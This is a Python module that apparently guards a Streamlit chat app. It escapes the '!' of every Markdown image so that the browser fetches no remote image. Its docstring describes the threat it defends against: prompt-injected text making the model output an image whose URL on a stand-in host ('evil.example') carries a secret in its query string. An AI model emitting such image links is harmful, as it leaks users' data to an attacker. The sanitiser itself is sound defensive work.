"""Markdown that renders like the input except that no image can ever render.

``st.markdown`` turns ``![alt](http://…)`` into an <img> the browser fetches at once: a channel
out for prompt-injected text (``![](http://evil.example/?q=<secret>)``). So the "!" of every image
is escaped (``\\![alt](url)`` shows "!" and a link a person may click); code stays as typed.

Why it is safe: an image needs a "![" whose "!" is not backslash-escaped ("live"). Every "!["
outside code is escaped, so none is live and no parser can read an image; if some stay live (in
code), markdown-it-py checks that they are code, else every "![" is escaped, code too. Streamlit
parses with micromark (+ math, directives, GFM bare links), which may read a backtick otherwise:
a code span after "$", ":name{", "]{", a bare URL, or an unclosed span or tag is not trusted.
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from itertools import pairwise
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.rules_inline import image as _image_rule
from markdown_it.token import Token

__all__ = ["SafeMarkdown", "has_image", "image_sources", "safe_markdown"]


@dataclass(frozen=True, slots=True)
class SafeMarkdown:
    """``text``: Markdown without images; ``blocked``: the image addresses it neutralised."""

    text: str
    blocked: tuple[str, ...] = ()


_GFM = ["table", "strikethrough"]


def _parser(*off: str) -> MarkdownIt:
    """GitHub-like (tables, strikethrough), HTML on: Streamlit parses raw HTML (and shows it as
    text), and HTML blocks and tags change what is code."""
    return MarkdownIt("commonmark", {"html": True}).enable(_GFM).disable(list(off))


# _BLOCKS stops before inline parsing; _PARAS also reads definitions as paragraph text.
_MD, _BLOCKS, _PARAS = _parser(), _parser("inline"), _parser("inline", "reference")

# A line that may open or close a fence: ``` or ~~~ (code), $$ (Streamlit's math), after a prefix.
_CANDIDATE = re.compile(r"```|~~~|\$\$")
_OPEN = re.compile(r"!\[")
_FENCE = re.compile(
    r"(?P<pre>(?:[ \t]*(?:>|[-+*](?=[ \t])|\d{1,9}[.)](?=[ \t])))*[ \t]*)"
    r"(?P<run>`{3,}|~{3,}|\${2,})(?P<rest>[^\r\n]*)"
)
_BREAK = re.compile(r"\n[ \t]*\r?\n|\r[ \t]*\r")  # a blank line: no inline syntax crosses it
# Where the inline scanner stops: escapes, code spans, autolinks and tags, link destinations,
# images, and what Streamlit may read differently (math, directives, GFM bare links).
_INLINE = re.compile(r"\\[^\r\n]|`+|<|\]\(|!\[|\$|\]\{|:[A-Za-z][\w-]*\{|://|[Ww]{3}\.")
_AUTOLINK = re.compile(  # URI or e-mail (its domain read loosely: the parser checks it)
    r"<(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\x00-\x20]*|[\w.!#$%&'*+/=?^`{|}~-]+@[\w.-]+)>", re.A
)
_ATTR = r"""(?:\s+[A-Za-z_:][A-Za-z0-9_.:-]*(?:\s*=\s*(?:[^\s"'=<>`]+|'[^']*'|"[^"]*"))?)"""
_TAG = re.compile(rf"<(?:[A-Za-z][A-Za-z0-9-]*{_ATTR}*\s*/?|/[A-Za-z][A-Za-z0-9-]*\s*|!--.*?--)>")
_TAG_START = re.compile(r"<[A-Za-z/!?]")
_DEST = re.compile(r"(?:[^()\\\r\n]|\\[^\r\n]|\((?:[^()\\\r\n]|\\[^\r\n])*\))*\)")  # after "]("
_DEFINITION = re.compile(r"[ \t>]*(\[(?:[^\]\\\r\n]|\\[^\r\n])+\]:[^\r\n]*)")

Spans = list[tuple[int, int]]
Regions = list[tuple[int, int, bool]]  # fenced blocks: (start, end, is code; else $$ math)


def safe_markdown(text: str) -> SafeMarkdown:
    """``text`` with every image made "!" and a link (or text); code kept as typed."""
    if "![" not in text:  # every image starts with "![": most answers take this path
        return SafeMarkdown(text)
    regions = _regions(text, text.rfind("!["))
    marks: list[int] = []
    images: Spans = []  # (start of a neutralised "![", end of its paragraph)
    _mark(text, regions, marks, images)
    out = _insert(text, marks)
    if _live(out) and has_image(out):
        # The scanner kept as code something that is not code: escape every "![", code too.
        out = _insert(text, _escape_in(text, 0, len(text), []))
        if has_image(out):  # cannot happen (no live "![" is left): never show an image anyway
            out = out.replace("![", "!\u200b[")
        return SafeMarkdown(out, image_sources(text))
    defs = _definitions(text) if "]:" in text else ""
    found = (_source(text, a, z, defs) for a, z in images)
    return SafeMarkdown(out, tuple(dict.fromkeys(src for src in found if src is not None)))


def has_image(text: str) -> bool:
    """Whether markdown-it-py (CommonMark, tables, strikethrough) reads an image in ``text``."""
    return _live(text) and next(_both(text), None) is not None  # no live "![": no image


def image_sources(text: str) -> tuple[str, ...]:
    """The ``src`` of every image markdown-it-py reads in ``text``, de-duplicated, in order."""
    return tuple(dict.fromkeys(_both(text)))


def _both(text: str) -> Iterator[str]:
    """Images with markdown-it's blocks, then with CommonMark's where they differ: a reference
    definition ends a paragraph in markdown-it, not in CommonMark (nor micromark)."""
    env: dict[str, Any] = {}
    yield from _images(_BLOCKS.parse(text, env), env)  # env gets the definitions
    if "]:" in text:  # without a definition both read the same blocks
        yield from _images(_PARAS.parse(text, {}), env)


def _images(blocks: list[Token], env: dict[str, Any]) -> Iterator[str]:
    for token in blocks:
        if token.type == "inline" and _live(token.content):  # only these can hold an image
            children: list[Token] = []
            _MD.inline.parse(token.content, _MD, env, children)
            yield from _walk(children)


def _walk(tokens: list[Token]) -> Iterator[str]:
    for token in tokens:
        if token.type == "image":
            yield str(token.attrs.get("src", ""))
        if token.children:  # a link's text, an image's alt: images may nest
            yield from _walk(token.children)


@lru_cache(maxsize=64)
def _references(defs: str) -> dict[str, Any]:
    """The parser's env holding the reference definitions (for ![x][ref] and ![ref])."""
    env: dict[str, Any] = {}
    _BLOCKS.parse(defs, env)
    return env


def _source(text: str, a: int, z: int, defs: str) -> str | None:
    """The image at text[a] read alone: within 4 KB, else (a data: URL, say) to ``z``."""
    src = _image_at(text[a : min(z, a + 4096)], defs)
    if src is None and z > a + 4096:  # not cached: such keys could be large
        src = _image_at.__wrapped__(text[a:z], defs)
    return src


@lru_cache(maxsize=2048)
def _image_at(src: str, defs: str) -> str | None:
    """The address of the image markdown-it reads at the start of ``src``, if any. Parsing just
    the image keeps long answers cheap; the cache serves a streaming answer's earlier images."""
    src = src.replace("\r\n", "\n").replace("\r", "\n")  # the parser expects "\n" line ends
    state = StateInline(src, _MD, dict(_references(defs)), [])
    return next(_walk(state.tokens), None) if _image_rule(state, False) else None


def _live(text: str) -> bool:
    return any(_unescaped(text, m.start()) for m in _OPEN.finditer(text))


def _unescaped(text: str, i: int) -> bool:
    """Whether text[i] follows an even run of backslashes."""
    j = i
    while j > 0 and text[j - 1] == "\\":
        j -= 1
    return (i - j) % 2 == 0


def _escape_in(
    text: str, a: int, z: int, marks: list[int], found: Spans | None = None
) -> list[int]:
    """Marks every live "![" of text[a:z] (where inline syntax is not read)."""
    for i in (m.start() for m in _OPEN.finditer(text, a, z) if _unescaped(text, m.start())):
        marks.append(i)
        if found is not None:
            found.append((i, z))
    return marks


def _insert(text: str, marks: list[int]) -> str:
    """``text`` with a backslash at each (sorted) marked position."""
    if not marks:
        return text
    return "\\".join(text[a:z] for a, z in pairwise([0, *marks, len(text)]))


def _line(text: str, i: int) -> tuple[int, int]:
    """Start and end of the line around ``i`` (of a CRLF, the CR stays in the line)."""
    end = text.find("\n", i)
    return text.rfind("\n", 0, i) + 1, len(text) if end < 0 else end


def _regions(text: str, last: int) -> Regions:
    """Fenced blocks as sorted (start, end, is code); not code: $$ math. Unclosed: to the end."""
    found: Regions = []
    opened: tuple[int, str, int] | None = None  # (start, fence character, fence length)
    pos = 0
    while (m := _CANDIDATE.search(text, pos)) and (opened or m.start() < last):
        start, pos = _line(text, m.start())
        if (f := _FENCE.match(text, start, pos)) is None:
            continue
        run, rest, pre = f["run"], f["rest"], f["pre"]
        # Code fences count only if every CommonMark parser reads them alike: at most 3 spaces in
        # (top level, shallow list item). $$ math with any prefix: its inside is escaped anyway.
        if run[0] != "$" and (len(pre) > 3 or pre.strip(" ")):
            continue
        bare = not (rest.strip(" \t\r") or pre.strip(" \t>"))  # after "- " it opens an item
        if opened is None:
            if run[0] not in rest or run[0] == "~":  # ```a`b and $$x$$ are inline, not fences
                opened = (start, run[0], len(run))
        elif bare and run[0] == opened[1] and len(run) >= opened[2]:
            found.append((opened[0], pos, opened[1] != "$"))
            opened = None
    if opened is not None:
        found.append((opened[0], len(text), opened[1] != "$"))
    return found


def _mark(text: str, regions: Regions, marks: list[int], images: Spans) -> None:
    """Marks the "!" to escape: in math blocks all, elsewhere per paragraph (``_scan``)."""
    starts = [r[0] for r in regions]
    done = 0  # everything before is scanned
    i = text.find("![")
    while i != -1:
        k = bisect_right(starts, i) - 1
        if k >= 0 and i < regions[k][1]:
            a, z, code = regions[k]
            if not code:  # in TeX, "\!" is only a thin negative space
                _escape_in(text, a, z, marks, images)
        else:
            a = max(done, regions[k][1] if k >= 0 else 0)
            z = regions[k + 1][0] if k + 1 < len(regions) else len(text)
            while b := _BREAK.search(text, a, i):
                a = b.end()
            z = b.start() if (b := _BREAK.search(text, i, z)) else z
            # after a math block (which may be none to Streamlit), trust no code in the paragraph
            _scan(text, a, z, marks, images, k >= 0 and a == regions[k][1] and not regions[k][2])
        done = z
        i = text.find("![", z)


def _scan(text: str, a: int, z: int, marks: list[int], images: Spans, doubt: bool) -> None:
    """Marks the live "![" of the paragraph text[a:z], skipping one-line code spans, autolinks
    and tags unless something before them may change how they are read (``doubt``)."""
    pos = a
    while m := _INLINE.search(text, pos, z):
        tok, s, pos = m.group(), m.start(), m.end()
        if tok == "![":
            marks.append(s)
            images.append((s, z))
        elif tok[0] == "`" and not doubt:
            closing = re.compile(rf"(?<!`){tok}(?!`)")  # the same run (re caches it)
            close = closing.search(text, pos, min(_line(text, pos)[1], z))
            if close is None:
                doubt = True  # it may close on a later line
            else:
                if "|" in text[pos : close.start()]:  # a table row may split it into cells
                    _escape_in(text, pos, close.start(), marks, images)
                pos = close.end()
        elif tok == "<":
            eol = min(_line(text, pos)[1], z)
            if tag := _AUTOLINK.match(text, s, eol) or _TAG.match(text, s, eol):
                if doubt:
                    _escape_in(text, s, tag.end(), marks, images)
                pos = tag.end()
            else:
                doubt = doubt or _TAG_START.match(text, s) is not None  # a tag over lines
        elif tok == "](":  # a destination is read raw: its backticks open nothing
            if dest := _DEST.match(text, pos, min(_line(text, pos)[1], z)):
                _escape_in(text, pos, dest.end(), marks)
                pos = dest.end()
            else:
                doubt = True
        elif tok[0] not in "\\`":  # "$", "]{", ":name{", bare URLs (escapes: nothing to do)
            doubt = True


def _definitions(text: str) -> str:
    """Reference definition lines, to resolve ![x][ref] and ![ref] image by image."""
    defs: dict[str, None] = {}
    i = text.find("]:")
    while i != -1:
        if m := _DEFINITION.match(text, *_line(text, i)):
            defs[m[1]] = None
        i = text.find("]:", i + 2)
    return "\n\n".join(defs)
